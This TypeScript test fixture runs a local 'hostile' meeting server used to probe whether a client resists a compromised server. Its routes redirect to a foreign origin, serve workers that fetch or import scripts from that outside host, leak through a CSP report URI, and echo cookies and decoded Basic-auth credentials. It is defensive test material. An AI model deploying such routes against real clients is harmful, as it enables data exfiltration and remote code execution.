import { createServer } from 'node:http';
import type { Socket } from 'node:net';

export interface HostileServer {
  readonly origin: string;
  readonly host: string;
  /** Names the foreign host that its redirects lead to. */
  readonly leadTo: (origin: string) => void;
  close(): Promise<void>;
}

/** Looks like a meeting to the terminal, and holds what the attacks need. */
const PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>hostile</title></head>
<body><p data-test="userListItemCurrent">hostile</p>
<input type="file" id="file"><input type="file" id="folder" webkitdirectory><label for="file" id="label">file</label>
<textarea id="words"></textarea><video id="video" muted></video></body></html>`;

/** A meeting server that has turned against the terminal. */
export const openHostileServer = async (): Promise<HostileServer> => {
  let outside = '';
  let remembered = '';
  const words = new WeakMap<Socket, string>();
  const sockets = new Set<Socket>();
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://hostile.invalid');
    const mark = url.searchParams.get('mark') ?? '';
    const word = url.searchParams.get('word') ?? '';
    const send = (headers: Record<string, string>, body = '', status = 200): void => {
      response.writeHead(status, { 'access-control-allow-origin': '*', ...headers }).end(body);
    };
    switch (url.pathname) {
      case '/to-outside':
        send({ location: `${outside}/${mark}` }, '', 302);
        return;
      case '/to-outside-307':
        send({ location: `/to-outside?mark=${mark}` }, '', 307);
        return;
      case '/refresh':
        send({ refresh: `0; url=${outside}/${mark}`, 'content-type': 'text/html' }, '<p>refresh');
        return;
      case '/attachment':
        send(
          { 'content-disposition': 'attachment; filename="take.bin"', 'content-type': 'application/octet-stream' },
          'x',
        );
        return;
      case '/pdf':
        send({ 'content-type': 'application/pdf' }, '%PDF-1.4\n%%EOF');
        return;
      case '/unknown-type':
        send({ 'content-type': 'application/x-nobody-shows-this' }, 'x');
        return;
      case '/sign-in':
        send({ 'www-authenticate': 'Basic realm="city"' }, '', 401);
        return;
      case '/worker.js':
        send(
          { 'content-type': 'text/javascript', 'service-worker-allowed': '/' },
          `self.addEventListener('message', (event) => { importScripts(event.data); });`,
        );
        return;
      case '/fetching-worker.js':
        send(
          { 'content-type': 'text/javascript' },
          `fetch('${outside}/${mark}', { mode: 'no-cors' }).catch(() => undefined);`,
        );
        return;
      case '/importing-worker.js':
        send({ 'content-type': 'text/javascript' }, `try { importScripts('${outside}/${mark}.js'); } catch {}`);
        return;
      case '/frame':
        send({ 'content-type': 'text/html' }, '<!doctype html><title>frame</title>');
        return;
      case '/node-worker.js':
        send({ 'content-type': 'text/javascript' }, `postMessage(typeof require === 'function');`);
        return;
      case '/csp':
        send(
          { 'content-type': 'text/html', 'content-security-policy': `img-src 'none'; report-uri ${outside}/${mark}` },
          '<img src="/x.png">',
        );
        return;
      case '/set-cookie':
        send({ 'set-cookie': `h=${word}; HttpOnly; Max-Age=9999; Path=/` });
        return;
      case '/cookie':
        send({ 'cache-control': 'no-store' }, request.headers.cookie ?? '');
        return;
      case '/kept-word':
        send({ 'cache-control': 'max-age=9999' }, String(request.headers['x-word'] ?? ''));
        return;
      case '/tagged': {
        const tag =
          request.headers['if-none-match'] ??
          (request.headers['x-word'] ? `"${String(request.headers['x-word'])}"` : '');
        send({ 'cache-control': 'no-cache', ...(tag === '' ? {} : { etag: tag }) }, tag);
        return;
      }
      case '/signed-in':
        if (request.headers.authorization === undefined) send({ 'www-authenticate': 'Basic realm="city"' }, '', 401);
        else
          send(
            { 'cache-control': 'no-store' },
            Buffer.from(request.headers.authorization.slice(6), 'base64').toString(),
          );
        return;
      case '/connection':
        if (word !== '') words.set(request.socket, word);
        send({ 'cache-control': 'no-store' }, words.get(request.socket) ?? '');
        return;
      case '/remember':
        if (request.method === 'POST') {
          request.on('data', (chunk: Buffer) => {
            remembered = chunk.toString();
          });
          request.on('end', () => send({}));
        } else send({ 'cache-control': 'no-store' }, remembered);
        return;
      default:
        send({ 'content-type': 'text/html' }, PAGE);
    }
  });
  server.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('The hostile server has no port.');
  const host = `127.0.0.1:${address.port}`;
  return {
    origin: `http://${host}`,
    host,
    leadTo: (origin) => {
      outside = origin;
    },
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
};
